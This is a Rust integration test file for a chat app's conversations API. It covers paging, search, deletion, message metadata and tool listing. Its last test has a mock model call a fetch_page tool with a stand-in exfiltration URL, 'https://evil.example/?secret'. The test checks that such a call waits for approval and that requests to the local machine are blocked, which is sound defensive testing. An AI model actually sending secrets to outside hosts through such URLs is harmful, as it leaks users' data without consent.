//! Conversations through the API: create, list, page, search, rename, delete.

use reqwest::StatusCode;
use serde_json::{Value, json};
use sqlx::AssertSqlSafe;
use tallybook_mock_llm::{MockLlm, hang, text, tool_call};
use tallybook_protocol::ChatEvent;

use crate::support::{Engine, Program, TestApp, execute, on_every_engine, rows};

on_every_engine! {
    async fn an_invalid_stored_uuid_is_an_error(engine: Engine) {
        let model = MockLlm::start().await.unwrap();
        let app = TestApp::spawn(&engine, &model).await;
        let conversation = app.create_conversation().await;
        model.reply([text("Hello.")]);
        app.send(&conversation, "Hello").await.all().await;
        let lists = ["/api/conversations", "/api/search?query=hello"];
        for path in lists {
            assert_eq!(app.get(path).await.status(), StatusCode::OK, "{path}");
        }
        execute!(app, "UPDATE conversations SET uuid = 'broken'");
        for path in lists {
            let list = app.get(path).await;
            assert_eq!(list.status(), StatusCode::INTERNAL_SERVER_ERROR, "{path}");
            assert!(!list.text().await.unwrap().contains("00000000-0000-0000-0000-000000000000"));
        }
    }

    async fn conversations_are_listed_newest_first_page_by_page(engine: Engine) {
        let model = MockLlm::start().await.unwrap();
        let app = TestApp::spawn(&engine, &model).await;
        let mut made = Vec::new();
        for _ in 0..5 {
            made.push(app.create_conversation().await);
        }
        made.reverse();
        let mut listed = Vec::new();
        let mut path = "/api/conversations?limit=2".to_owned();
        let mut sizes = Vec::new();
        loop {
            let page = app.get_json(&path).await;
            let items = page["items"].as_array().unwrap();
            sizes.push(items.len());
            listed.extend(items.iter().map(|item| item["uuid"].as_str().unwrap().to_owned()));
            let Some(cursor) = page["next_cursor"].as_str() else { break };
            path = format!("/api/conversations?limit=2&cursor={cursor}");
        }
        assert_eq!(sizes, [2, 2, 1]);
        assert_eq!(listed, made);
    }

    async fn search_finds_titles_and_text_and_takes_wildcards_literally(engine: Engine) {
        let model = MockLlm::start().await.unwrap();
        let app = TestApp::spawn(&engine, &model).await;
        let (by_title, by_text) = (app.create_conversation().await, app.create_conversation().await);
        let renamed = json!({"title": "Taxes 100% done"});
        let response =
            app.client.patch(app.url(&format!("/api/conversations/{by_title}"))).json(&renamed).send().await.unwrap();
        assert_eq!(response.json::<Value>().await.unwrap()["title"], "Taxes 100% done");
        model.reply([text("The answer mentions 大阪, Привет and Rhubarb.")]);
        app.send(&by_text, "Hello").await.all().await;
        for (search, found) in [
            ("taxes", vec![&by_title]),
            ("0%25%20d", vec![&by_title]),
            ("0_%25", vec![]),
            ("%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82", vec![&by_text]),
            ("rhubarb", vec![&by_text]),
            ("%E5%A4%A7%E9%98%AA", vec![&by_text]),
            ("", vec![&by_text, &by_title]),
        ] {
            let page = app.get_json(&format!("/api/conversations?q={search}")).await;
            let uuids: Vec<&str> = page["items"].as_array().unwrap().iter().map(|i| i["uuid"].as_str().unwrap()).collect();
            assert_eq!(uuids, found, "{search}");
        }
    }

    async fn deleted_conversations_are_not_found(engine: Engine) {
        let model = MockLlm::start().await.unwrap();
        let app = TestApp::spawn(&engine, &model).await;
        let conversation = app.create_conversation().await;
        model.reply([tool_call("add", r#"{"a":1,"b":2}"#)]);
        model.reply([text("3")]);
        app.send(&conversation, "1 + 2").await.all().await;
        let path = app.url(&format!("/api/conversations/{conversation}"));
        assert_eq!(app.client.delete(&path).send().await.unwrap().status(), StatusCode::NO_CONTENT);
        assert_eq!(app.client.delete(&path).send().await.unwrap().status(), StatusCode::NOT_FOUND);
        assert_eq!(app.get_json("/api/conversations").await["items"], json!([]));
        assert_eq!(app.get_json("/api/conversations?q=1").await["items"], json!([]));
    }

    async fn all_conversations_are_deleted_at_once_and_their_turns_are_stopped(engine: Engine) {
        let model = MockLlm::start().await.unwrap();
        let app = TestApp::spawn(&engine, &model).await;
        let (running, pinned, archived) =
            (app.create_conversation().await, app.create_conversation().await, app.create_conversation().await);
        for (uuid, change) in [(&pinned, json!({"pinned": true})), (&archived, json!({"archived": true}))] {
            let changed = app.client.patch(app.url(&format!("/api/conversations/{uuid}"))).json(&change).send().await;
            assert_eq!(changed.unwrap().status(), StatusCode::OK);
        }
        // They take more than one statement.
        let row = |number: u32| {
            format!("('00000000-0000-4000-8000-{number:012}', 1, 'Old', '2026-01-01 00:00:00', '2026-01-01 00:00:00')")
        };
        let many = (0..250).map(row).collect::<Vec<_>>().join(", ");
        let insert = format!("INSERT INTO conversations (uuid, user_id, title, created_at, updated_at) VALUES {many}");
        execute!(app, AssertSqlSafe(insert.as_str()));
        assert_eq!(app.get_json("/api/me").await["conversations"], 253);
        model.reply([text("Begun "), hang()]);
        let mut events = app.send(&running, "Go").await;
        events.until("content_delta").await;

        let delete = async || app.client.delete(app.url("/api/conversations")).send().await.unwrap();
        let filtered = app.client.delete(app.url("/api/conversations?archived=true")).send().await.unwrap();
        assert_eq!(filtered.status(), StatusCode::BAD_REQUEST, "a filter does not turn into no filter");
        let deleted = delete().await;
        assert_eq!(deleted.status(), StatusCode::OK);
        assert_eq!(deleted.json::<Value>().await.unwrap(), json!({"deleted": 253}));
        let ChatEvent::MessageEnd(end) = events.until("message_end").await.event else { unreachable!() };
        assert!(end.conversation_deleted, "{end:?}");
        for list in ["/api/conversations", "/api/conversations?archived=true", "/api/conversations?pinned=true"] {
            assert_eq!(app.get_json(list).await["items"], json!([]), "{list}");
        }
        assert_eq!(app.get_json("/api/me").await["conversations"], 0);
        for uuid in [&running, &pinned, &archived] {
            assert_eq!(app.get(&format!("/api/conversations/{uuid}")).await.status(), StatusCode::NOT_FOUND);
        }
        assert_eq!(delete().await.json::<Value>().await.unwrap(), json!({"deleted": 0}));
        app.create_conversation().await;
        assert_eq!(app.get_json("/api/conversations").await["items"].as_array().unwrap().len(), 1);
    }

    async fn messages_have_their_end_time_and_model(engine: Engine) {
        let model = MockLlm::start().await.unwrap();
        let app = TestApp::spawn(&engine, &model).await;
        let conversation = app.create_conversation().await;
        model.reply([tool_call("add", r#"{"a":1,"b":2}"#)]);
        let gate = model.reply_gated([], [text("3")]);
        let mut events = app.send(&conversation, "1 + 2").await;
        gate.reached().await;
        let running = app.conversation(&conversation).await;
        let (question, answer) = (&running["messages"][0], &running["messages"][1]);
        assert_eq!(question["completed_at"], question["created_at"]);
        assert!(question.get("model").is_none() && question.get("provider").is_none(), "{question}");
        assert_eq!((&answer["provider"], &answer["model"]), (&json!("anthropic"), &json!("test-model")), "its first step");
        assert!(answer.get("completed_at").is_none(), "{answer}");
        gate.open();
        events.until("message_end").await;
        let whole = app.get_json(&format!("/api/conversations/{conversation}?limit=2")).await;
        let answer = &whole["messages"][1];
        assert!(answer["completed_at"].as_str() > answer["created_at"].as_str(), "{answer}");
        let exported = app.get_json(&format!("/api/conversations/{conversation}/export?format=json")).await;
        for key in ["created_at", "completed_at", "provider", "model"] {
            assert_eq!(exported["messages"][1][key], answer[key], "{key}");
        }
    }

    async fn the_first_message_becomes_the_title(engine: Engine) {
        let model = MockLlm::start().await.unwrap();
        let app = TestApp::spawn(&engine, &model).await;
        let conversation = app.create_conversation().await;
        assert_eq!(app.conversation(&conversation).await["title"], "New conversation");
        for reply in ["Four.", "Five."] {
            model.reply([text(reply)]);
        }
        app.send(&conversation, "What is 2 + 2?\nPlease.").await.all().await;
        app.send(&conversation, "And 2 + 3?").await.all().await;
        assert_eq!(app.conversation(&conversation).await["title"], "What is 2 + 2?");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tools_and_health_are_reported() {
    let model = MockLlm::start().await.unwrap();
    let app = TestApp::spawn(&Engine::sqlite(), &model).await;
    let tools = app.get_json("/api/tools").await;
    let names: Vec<&str> =
        tools["items"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["add", "convert_units", "current_time", "divide", "evaluate", "multiply", "subtract"]);
    assert_eq!(tools["items"][0]["input_schema"]["type"], "object");
    assert_eq!(tools["servers"], json!([]));
    for path in ["/healthz", "/readyz"] {
        assert_eq!(app.get(path).await.status(), StatusCode::OK, "{path}");
    }
    let metrics = app.get("/metrics").await.text().await.unwrap();
    assert!(metrics.contains("tallybook_turns_running 0\n"), "{metrics}");
}

/// The tool `fetch_page` is off by default. If it is on, it cannot reach this machine.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn web_pages_are_fetched_if_enabled() {
    let (engine, model) = (Engine::sqlite(), MockLlm::start().await.unwrap());
    let mut command = Program::command(&engine, &model);
    command.env("FETCH_PAGE", "true").env("FETCH_PAGE_HOSTS", "*.example.org, 127.0.0.1");
    let app = TestApp::launch_command(&engine, &mut command);
    let tools = app.get_json("/api/tools").await;
    assert!(tools["items"].as_array().unwrap().iter().any(|tool| tool["name"] == "fetch_page"), "{tools}");
    let conversation = app.create_conversation().await;
    model.reply([tool_call("fetch_page", json!({ "url": app.url("/metrics") }).to_string())]);
    model.reply([text("No.")]);
    app.send(&conversation, "What does it say?").await.all().await;
    let calls = rows!(app, (String, Option<String>), "SELECT status, error FROM tool_calls");
    let error = calls[0].1.as_deref().unwrap_or_default();
    assert!(calls[0].0 == "error" && error.ends_with("is not on the public internet"), "{calls:?}");
    // A URL can carry data out, so calls for other hosts need approval.
    let conversation = app.create_conversation().await;
    model.reply([tool_call("fetch_page", json!({ "url": "https://evil.example/?secret" }).to_string())]);
    app.send(&conversation, "And there?").await.all().await;
    let waiting = rows!(app, (String,), "SELECT status FROM tool_calls ORDER BY id DESC LIMIT 1");
    assert_eq!(waiting, [("awaiting_approval".to_owned(),)]);
}
